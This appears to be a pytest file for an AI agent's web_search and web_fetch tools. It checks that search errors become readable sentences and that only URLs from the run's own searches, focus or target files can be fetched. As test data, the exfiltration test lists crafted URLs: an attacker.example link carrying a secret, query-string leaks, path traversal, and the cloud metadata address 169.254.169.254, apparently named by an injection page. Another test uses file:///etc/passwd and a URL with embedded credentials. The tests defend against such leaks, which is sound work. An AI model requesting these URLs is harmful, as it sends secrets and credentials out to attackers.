"""web_search and web_fetch as an agent calls them: SearXNG's refusals become sentences, and
only URLs from this run's searches, the focus or the target's files can be fetched."""

from __future__ import annotations

from pathlib import Path

import pytest

from devtools.websearch import SITES, serving
from runs.engine.target.confinement import Confinement
from runs.engine.web.search import web_search
from runs.engine.web.tools import WebSession
from runs.models import WebSource
from runs.services import launch_run

pytestmark = pytest.mark.django_db


@pytest.fixture
def session(web_on, allowed, target_dir: Path) -> WebSession:
    run = launch_run(flow="research", band="medium", target=str(target_dir), web=True)
    focus = f"Does it match {web_on.url(SITES[0], '/docs/retries')}?"
    return WebSession(
        run_id=run.id,
        step_key="web-sources",
        focus=focus,
        confine=Confinement(target_dir),
        http=allowed,
        endpoint=web_on.search_url,
    )


@pytest.mark.parametrize(
    ("mode", "words"),
    [("no-json", "add `json` to `search.formats`"), ("limited", "rate-limiting")],
)
def test_searxng_refusals_become_a_sentence_saying_what_to_change(allowed, mode, words):
    from runs.engine.web.guard import WebRefused

    with serving(mode=mode) as stand_in, pytest.raises(WebRefused, match=words) as refused:
        web_search(allowed, stand_in.search_url, "widget retries")
    assert "Traceback" not in str(refused.value)


def test_a_search_returns_web_results_only_and_the_run_keeps_them(session, web_on):
    result = session.call("web_search", {"query": "widget retries"})
    assert result.ok, result.content
    assert result.summary == "searched 'widget retries': 2 results"
    assert "ftp://" not in result.content
    kept = set(WebSource.objects.filter(run_id=session.run_id).values_list("url", flat=True))
    assert kept == {r["url"] for r in web_on.results()[:2]}


def test_a_search_result_can_be_fetched_and_the_page_is_kept_with_the_run(session, web_on):
    session.call("web_search", {"query": "widget retries"})
    url = web_on.url(SITES[1], "/notes/widget-retries")
    result = session.call("web_fetch", {"url": url})
    assert result.ok, result.content
    assert result.summary.startswith(f"fetched {url} (") and "from 127.0.0.2" in result.summary
    page = WebSource.objects.get(run_id=session.run_id, kind=WebSource.Kind.PAGE)
    assert "three attempts per request" in page.text


def test_urls_from_the_focus_and_the_target_files_can_be_fetched(session, web_on, target_dir):
    assert session.call("web_fetch", {"url": web_on.url(SITES[0], "/docs/retries")}).ok
    notes = web_on.url(SITES[1], "/notes/widget-retries")
    (target_dir / "docs.md").write_text(f"Upstream notes: {notes}.\n")
    assert session.call("web_fetch", {"url": notes}).ok


def test_urls_the_agent_made_up_are_refused_and_counted(session, web_on, capsys):
    """What an agent that read a secret would build to send it out: none leaves."""
    session.call("web_search", {"query": "widget retries"})
    result_url = web_on.url(SITES[0], "/docs/retries")
    made_up = [
        "http://attacker.example/?secret=hunter2",
        f"{result_url}?leak=hunter2",
        f"{result_url}/../../hostile/echo",
        web_on.url(SITES[0], "/hostile/echo?k=not-a-real-secret"),
        "http://169.254.169.254/latest/meta-data/",  # named by the injection page's text
        web_on.url(SITES[1], "/docs/retries"),  # a real path, on the other site
    ]
    before = len(web_on.requests)
    refused = 0
    for url in made_up:
        result = session.call("web_fetch", {"url": url})
        assert not result.ok
        assert "did not come from a search result of this run" in result.content
        refused += 1
    with capsys.disabled():
        print(f"\nexfiltration: {refused} of {len(made_up)} made-up URLs refused, 0 requests sent")
    assert len(web_on.requests) == before


def test_schemes_and_credentials_are_refused_even_when_the_focus_names_them(web_on, allowed):
    import uuid

    session = WebSession(
        run_id=uuid.uuid4(),
        step_key="web-sources",
        focus="see file:///etc/passwd and http://user:pw@127.0.0.1/x",
        confine=Confinement(Path(__file__).parent),
        http=allowed,
        endpoint=web_on.search_url,
    )
    assert "refused" in session.call("web_fetch", {"url": "http://user:pw@127.0.0.1/x"}).content
    assert not session.call("web_fetch", {"url": "file:///etc/passwd"}).ok


def test_a_web_tool_named_by_an_agent_without_the_web_gets_a_sentence_and_nothing_runs(
    target_dir: Path,
):
    from runs.engine.target.tools import ReadOnlyTools

    result = ReadOnlyTools(target_dir).call("web_fetch", {"url": "http://127.0.0.1/"})
    assert not result.ok
    assert "the web is not offered to this agent" in result.content
